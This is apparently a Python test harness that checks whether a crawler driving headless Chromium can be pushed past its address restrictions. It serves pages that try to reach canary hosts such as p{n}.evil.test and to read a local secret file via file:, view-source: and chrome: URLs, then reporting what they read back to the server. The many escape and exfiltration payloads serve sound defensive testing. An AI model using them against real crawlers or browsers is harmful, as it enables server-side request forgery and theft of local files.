"""Pages that make Chromium contact forbidden addresses or read a forbidden file: canaries for TCP, UDP and DNS, and a file.

Only 127.0.0.1 is allowed. Each page has its own port, at which every other address of the namespace is a canary. `--resolve`
gives names their addresses, so the crawl queries no name server: each query is the browser's. A second crawl, which may
contact all addresses, shows how many pages reach their canary by TCP.
"""
import json, os, pathlib, shutil, subprocess
from attempt import Attempt
from support.network import ALLOWED, Canaries, Names, isolated
from support.pages import Pages

SITE, FIRST, LIMIT = 18000, 21000, 240
V4 = "127.0.0.2"
SHELL = "/usr/lib/chromium/chromium-headless-shell"
BROWSERS = (SHELL, "chrome-headless-shell", "chromium", "chromium-browser", "google-chrome-stable", "google-chrome", "chrome")
# kind of target → host, by page number
TARGETS = {"IPv4": lambda n: V4, "IPv6": lambda n: "[::ffff:127.0.0.2]" if n % 2 else "[::1]", "name": lambda n: f"p{n}.evil.test"}
SECRET = "The file of the user says 7f3c9a1e"
# words of the file, and of the browser's own pages
MARKS = ("7f3c9a1e", "Command Line", "Command%20Line", "net-export", "JavaScript%20V8")

# name → markup, with T for the URL of the target, A its authority, H its host, P its port
MARKUP = {
    "img": "<img src='T'><img srcset='T 2x'><picture><source srcset='T'><img></picture>",
    "script": "<script src='T'></script><script type=module src='T'></script>",
    "stylesheet": "<link rel=stylesheet href='T'>",
    "CSS url and import": "<style>@import 'T/a'; body { background: url(T/b); cursor: url(T/c), auto } li { list-style: url(T/d) }</style><ul><li>x</ul>",
    "font": "<style>@font-face { font-family: F; src: url(T) } body { font-family: F }</style>text",
    "iframe": "<iframe src='T'></iframe>",
    "frame of srcdoc": "<iframe srcdoc=\"<script src='T'></script><img src='T'>\"></iframe>",
    "frame of data": "<iframe src=\"data:text/html,<script src='T'></script>\"></iframe>",
    "object and embed": "<object data='T'></object><embed src='T'>",
    "video, audio, track": "<video autoplay src='T/v'><track default src='T/t'></video><audio autoplay src='T/a'></audio><video poster='T/p'></video>",
    "svg": "<svg><image href='T'/><use href='T#x'/></svg><img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"T\"/></svg>'>",
    "preload and prefetch": "<link rel=preload as=fetch crossorigin href='T/1'><link rel=prefetch href='T/2'><link rel=modulepreload href='T/3'><link rel=prerender href='T/4'>",
    "dns-prefetch and preconnect": "<link rel=dns-prefetch href='//A'><link rel=preconnect href='T'><link rel=preconnect href='https://A'>",
    "manifest and icon": "<link rel=manifest href='T/m'><link rel=icon href='T/i'><link rel=apple-touch-icon href='T/t'><link rel=search type='application/opensearchdescription+xml' href='T/o'>",
    "meta refresh": "<meta http-equiv=refresh content='0; url=T'>",
    "speculation rules": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"T\"],\"eagerness\":\"immediate\"}],\"prerender\":[{\"urls\":[\"T\"],\"eagerness\":\"immediate\"}]}</script>",
    "import map": "<script type=importmap>{\"imports\":{\"x\":\"T\"}}</script><script type=module>import 'x'</script>",
    "form": "<form id=f action='T' method=post><input name=a></form><script>f.submit()</script>",
    "form in a new window": "<form id=f action='T' target=_blank><input name=a></form><script>f.submit()</script>",
    "fenced frame and portal": "<fencedframe src='T'></fencedframe><portal src='T'></portal>",
    "XML stylesheet": "<iframe src='data:text/xml,<?xml-stylesheet href=\"T\" type=\"text/xsl\"?><a/>'></iframe>",
    "client hints and CSP report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri T\"><img src=/x.png>",
}
# name → script, likewise; O(x) keeps the result of x in the page
SCRIPTS = {
    "fetch": "O(fetch('T').then(r => r.text())); O(fetch('T', { mode: 'no-cors' })); O(fetch('T', { keepalive: true, method: 'POST', body: 'x' }))",
    "fetch over TLS": "O(fetch('https://A/', { mode: 'no-cors' }))",
    "XMLHttpRequest": "const x = new XMLHttpRequest; x.open('GET', 'T'); x.onloadend = () => O(x.responseText); x.send()",
    "WebSocket": "new WebSocket('ws://A/'); new WebSocket('wss://A/'); if (window.WebSocketStream) new WebSocketStream('ws://A/')",
    "EventSource": "new EventSource('T')",
    "beacon": "navigator.sendBeacon('T', 'x')",
    "beacon at unload": "for (const e of ['pagehide', 'beforeunload', 'unload', 'visibilitychange']) addEventListener(e, () => { navigator.sendBeacon('T/' + e, 'x'); fetch('T', { keepalive: true, mode: 'no-cors' }) })",
    "fetchLater": "if (window.fetchLater) fetchLater('T', { activateAfter: 0 })",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('T', { mode: 'no-cors' }); new WebSocket('ws://A/'); importScripts('T')`])))",
    "worker of a module": "new Worker(URL.createObjectURL(new Blob([`import 'T'`])), { type: 'module' })",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('T', { mode: 'no-cors' })`])))",
    "service worker": "O(navigator.serviceWorker.register('/sw.js?A'))",
    "worklet": "O(CSS.paintWorklet?.addModule('T')); O(new OfflineAudioContext(1, 9, 9000).audioWorklet.addModule('T'))",
    "dynamic import": "O(import('T'))",
    "location": "setTimeout(() => location = 'T')",
    "location of a frame": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'T'",
    "window.open": "window.open('T'); window.open('T', '_blank', 'noopener'); const a = document.createElement('a'); a.href = 'T'; a.target = '_blank'; document.body.append(a); a.click()",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = 'T'; document.body.append(a); a.click()",
    "download": "const a = document.createElement('a'); a.href = 'T'; a.download = 'x'; document.body.append(a); a.click()",
    "STUN over UDP": "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:A' }], iceCandidatePoolSize: 4 }); c.createDataChannel('x'); O(c.createOffer().then(o => c.setLocalDescription(o))); c.onicecandidate = e => O(e.candidate?.candidate); setTimeout(() => 0, 900)",
    "STUN by a frame": "const f = document.createElement('iframe'); document.body.append(f); const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:A' }] }); c.createDataChannel('x'); O(c.createOffer().then(o => c.setLocalDescription(o))); setTimeout(() => 0, 900)",
    "TURN over UDP, TCP and TLS": "const c = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: ['turn:A?transport=udp', 'turn:A?transport=tcp', 'turns:A?transport=tcp'].map(urls => ({ urls, username: 'u', credential: 'c' })) }); c.createDataChannel('x'); O(c.createOffer().then(o => c.setLocalDescription(o))); setTimeout(() => 0, 900)",
    "ICE candidate of the peer": "const c = new RTCPeerConnection(); const d = new RTCPeerConnection(); c.createDataChannel('x'); (async () => { await c.setLocalDescription(await c.createOffer()); await d.setRemoteDescription(c.localDescription); await d.setLocalDescription(await d.createAnswer()); await c.setRemoteDescription(d.localDescription); for (const k of ['udp', 'tcp']) await c.addIceCandidate({ candidate: `candidate:1 1 ${k} 2113937151 H P typ host` + (k == 'tcp' ? ' tcptype passive' : ''), sdpMid: '0' }).catch(() => 0) })(); setTimeout(() => 0, 900)",
    "WebTransport and QUIC": "try { const w = new WebTransport('https://A/'); O(w.ready) } catch (e) { O(String(e)) }",
    "images by script": "for (let i = 0; i < 5; i++) new Image().src = 'T/' + i",
    "document.write": "document.write(\"<img src='T'><script src='T'><\\/script><link rel=dns-prefetch href='//A'>\")",
    "payment and credentials": "try { O(new PaymentRequest([{ supportedMethods: 'https://A/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()) } catch (e) {} O(navigator.credentials?.get({ identity: { providers: [{ configURL: 'https://A/', clientId: 'x' }] } }))",
}
# name → headers of the page, likewise
HEADERS = {
    "redirect": {"status": 302, "Location": "T"},
    "Refresh header": {"Refresh": "0; url=T"},
    "Link header": {"Link": "<T>; rel=preload; as=script, <T>; rel=preconnect, <T>; rel=stylesheet"},
    "Alt-Svc header": {"Alt_Svc": 'h3="A", h2="A"; ma=9999'},
    "reports": {"Report_To": '{"group":"d","max_age":99,"endpoints":[{"url":"https://A/"}]}', "NEL": '{"report_to":"d","max_age":99,"success_fraction":1}',
                "Reporting_Endpoints": 'd="https://A/"', "Content_Security_Policy": "img-src 'none'; report-uri T; report-to d"},
}
# name → markup that shows the file F, or reports it to the server
FILES = {
    "file: in a frame": "<iframe src='file://F'></iframe><object data='file://F'></object><embed src='file://F'>",
    "file: by fetch": "<script>fetch('file://F').then(r => r.text()).then(told); const x = new XMLHttpRequest; x.open('GET', 'file://F'); x.onload = () => told(x.responseText); x.send()</script>",
    "file: by script and import": "<script src='file://F'></script><script type=module>import 'file://F'</script><link rel=stylesheet href='file://F'>",
    "file: as location": "<script>location = 'file://F'</script>",
    "file: by refresh": "<meta http-equiv=refresh content='0; url=file://F'>",
    "file: by a window": "<script>const w = window.open('file://F'); setTimeout(() => told(w?.document.body.innerText), 300)</script>",
    "view-source:": "<iframe src='view-source:file://F'></iframe><script>location = 'view-source:file://F'</script>",
    "filesystem: and blob:": "<iframe src='filesystem:file://F'></iframe><iframe src='blob:file://F'></iframe>",
    "chrome:": "<iframe src='chrome://version'></iframe><script>fetch('chrome://version').then(r => r.text()).then(told); window.open('chrome://version')</script>",
    "devtools: and extensions": "<iframe src='devtools://devtools/bundled/inspector.html'></iframe><script>location = 'chrome://net-export'</script>",
    "file picker": "<input type=file id=i value='F'><script>i.click(); window.showOpenFilePicker?.().then(f => told(f)).catch(() => 0); window.showDirectoryPicker?.().catch(() => 0)</script>",
}
HEAD = "<!doctype html><title>A page</title><p>The harbour office says which boats sail and when the tide comes in.</p><div id=o></div>"
SCRIPT = "<script>function O(x) { Promise.resolve(x).then(v => o.append(String(v)), e => o.append('refused ')) }\n{}</script>"
TOLD = "<script>function told(t) { fetch('/told?' + encodeURIComponent(String(t).slice(0, 500))) }</script>"


def run(binary, folder):
    if not any(shutil.which(name) for name in BROWSERS):
        return [Attempt("browser", "all", False, "no Chromium", skipped=True)]
    return isolated("browser", binary, folder)


def seeds():
    """(technique, kind of target, page as arguments of `Pages.add`), with the target still open."""
    for kind in TARGETS:
        for name, markup in MARKUP.items():
            yield name, kind, {"body": HEAD + markup}
        for name, script in SCRIPTS.items():
            yield name, kind, {"body": HEAD + SCRIPT.replace("{}", script)}
        for name, headers in HEADERS.items():
            yield name, kind, {"body": HEAD + "<img src=/x.png>", **headers}


def filled(text, host, port):
    """The text with the target in place of single capital letters."""
    if not isinstance(text, str):
        return text
    for letter, value in {"T": f"http://{host}:{port}/canary", "A": f"{host}:{port}", "H": host.strip("[]"), "P": str(port)}.items():
        text = text.replace(f"'{letter}'", f"'{value}'")
        for before in "'\"`/<(= :?":
            for after in "'\"`/>)#? ;,":
                text = text.replace(before + letter + after, before + value + after)
    return text


def crawl(binary, folder, pages, flags):
    folder.mkdir()
    (folder / "seeds.txt").write_text("".join(f"http://{ALLOWED}:{SITE}{page}\n" for page in pages))
    words = [binary, "--seed", f"{folder}/seeds.txt", "--state-dir", f"{folder}/state", "-O", f"{folder}/pages.jsonl", "--scope", "any", "--depth", "0", "--strategy", "chrome",
             "--delay", "0s", "--host-concurrency", "8", "--proxy", "none", "--max-time", f"{LIMIT}s", *flags]
    if os.geteuid() == 0:
        words.append("--chrome-no-sandbox")
    settings = {"FETCH_RETRIES": "0", "CRAWL_SOFT404": "false", "CHROME_TABS": "4", "CHROME_BLOCK_IMAGES": "false", "CHROME_SETTLE": "2s",
                "CHROME_NAVIGATE": "5s"}
    environment = {**os.environ, **{f"CRAWL_{name}": value for name, value in settings.items()}}
    with open(folder / "messages", "w") as messages:
        done = subprocess.run(words, env=environment, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=messages, timeout=LIMIT + 60)
    if done.returncode == 2:
        raise RuntimeError(f"the crawl refuses its settings: {(folder / 'messages').read_text()[:300]}")
    records = folder / "pages.jsonl"
    return records.read_text() if records.exists() else ""


def attack(binary, folder):
    names = Names(lambda name: [V4])
    server = Pages(SITE)
    server.add("/sw.js", "fetch('http://' + location.search.slice(1) + '/sw', { mode: 'no-cors' })", "text/javascript")
    attacks = list(seeds())
    canaries = Canaries(FIRST, len(attacks))
    # a request for a page's identity provider goes to the domain of its host
    resolve = ["--resolve", f"evil.test:443:{V4}"]
    for number, (_, kind, page) in enumerate(attacks):
        port = FIRST + number
        host = TARGETS[kind](number)
        server.add(f"/p{number}", **{name: filled(value, host, port) for name, value in page.items()})
        if kind == "name":
            resolve += ["--resolve", f"{host}:{port}:{V4}"]
    paths = [f"/p{number}" for number in range(len(attacks))]
    crawl(binary, folder / "attack", paths, ["--allow-address", f"{ALLOWED}/32", *resolve])
    hits, queries = by_page(canaries.take()), names.take()
    asked = {path for _, path in server.asked}
    crawl(binary, folder / "control", paths, ["--allow-private-addresses", *resolve])
    reached = by_page(canaries.take())
    for number, (name, kind, _) in enumerate(attacks):
        found = hits.get(number) or next((f"name server asked for {query}" for query in queries if query.startswith(f"p{number}.")), None)
        if f"/p{number}" not in asked:
            yield Attempt(f"browser: {kind}", name, False, "the page was not asked for", skipped=True)
            continue
        yield Attempt(f"browser: {kind}", name, found is not None, found or ("held, reaches its canary where all is allowed" if number in reached else "held"))
    other = [query for query in queries if not query.endswith(".evil.test")]
    yield Attempt("browser: other names", "all pages", bool(other), f"name server asked for {other[:3]}" if other else "held")
    yield from read_files(binary, folder, server)


def by_page(hits):
    """Evidence by page number, from hits at forbidden addresses."""
    return {port - FIRST: f"{address}:{port} got {said.splitlines()[0] if said else 'a connection'}" for port, address, said in hits if address != ALLOWED}


def read_files(binary, folder, server):
    secret = pathlib.Path(folder, "secret.txt")
    secret.write_text(SECRET)
    server.asked.clear()
    for number, markup in enumerate(FILES.values()):
        server.add(f"/f{number}", HEAD + TOLD.replace("/told", f"/told{number}") + markup.replace("F", str(secret)))
    paths = [f"/f{number}" for number in range(len(FILES))]
    text = crawl(binary, folder / "files", paths, ["--allow-address", f"{ALLOWED}/32"])
    records = {record["metadata"]["sourceURL"].rsplit("/", 1)[1]: record["text"] for record in map(json.loads, text.splitlines())}
    for number, name in enumerate(FILES):
        told = [path for _, path in server.asked if path.startswith(f"/told{number}?")]
        read = [text for text in [*told, records.get(f"f{number}", "")] if any(mark in text for mark in MARKS)]
        yield Attempt("browser: files", name, bool(read), read[0][:200] if read else "held")
